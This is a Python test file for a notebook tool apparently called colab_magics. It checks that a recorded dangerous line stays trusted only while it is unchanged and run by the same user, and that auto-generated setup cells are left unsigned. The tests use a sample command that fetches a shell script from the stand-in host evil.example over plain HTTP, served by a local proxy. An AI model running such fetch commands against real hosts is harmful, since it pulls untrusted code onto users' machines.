"""A dangerous line that this user has recorded is known again; one that was changed is not."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, List

import pytest
from doubles.proxy import Proxy
from support.machine import Machine
from support.notebooks import notebook, shown, whole

pytestmark = pytest.mark.once

FETCH = "%fetch http://evil.example/x.sh"


def plan(machine: Machine, path: Path) -> List[Any]:
    """For each line of the plan whether nobody would be asked."""
    done = machine.cli("setup", "plan", path, "--json")
    assert done.returncode == 0, done.stderr
    lines = json.loads(done.stdout)["lines"]
    return [(line["trusted"], [x["code"] for x in line["effects"]["dangers"]]) for line in lines]


def test_a_line_that_was_typed_is_signed(machine: Machine, folder: Path, tmp_path: Path) -> None:
    """``colab-magics run`` records and signs it; not for another line, nor for another user."""
    with Proxy(lambda host, by: None) as proxy:
        proxy.pages = {"evil.example/x.sh": b"evil"}
        machine.variables.update(http_proxy=proxy.at, no_proxy="127.0.0.1")
        path = notebook(folder / "nb.ipynb", f"%load_ext colab_magics\n{FETCH}\n%env_persist A=1")
        done = machine.cli("run", path)
        assert done.returncode == 0, done.stderr
    assert len(whole(path)["metadata"]["colab_magics"]["trust"]) == 64
    assert plan(machine, path) == [(True, ["plain-http"]), (True, [])]
    text = path.read_text()
    path.write_text(text.replace("evil.example/x.sh", "evil.example/y.sh"))
    assert plan(machine, path)[0] == (False, ["plain-http"])
    path.write_text(text)
    machine.variables["XDG_CONFIG_HOME"] = str(tmp_path / "another")
    assert plan(machine, path)[0] == (False, ["plain-http"])


def test_a_setup_cell_that_came_so_is_not_signed(machine: Machine, folder: Path) -> None:
    """Nobody has typed its line: a run without a person does it, and makes it nobody's."""
    cell = f"# colab_magics:setup v1\n%reload_ext colab_magics\n%pin tinypkg==1.0\n{FETCH}"
    with Proxy(lambda host, by: None) as proxy:
        proxy.pages = {"evil.example/x.sh": b"evil"}
        machine.variables.update(http_proxy=proxy.at, no_proxy="127.0.0.1")
        path = notebook(folder / "nb.ipynb", cell, "%env_persist A=1")
        assert machine.cli("run", path).returncode == 0
    lines = shown(path)[0].splitlines()
    assert lines[0].startswith("This cell installs tinypkg==1.0; ") and "evil.example" in lines[0]
    assert plan(machine, path)[:2] == [(True, []), (False, ["plain-http"])]
    text = machine.cli("setup", "plan", path).stdout
    assert "evil.example" in text and "dangerous" in text
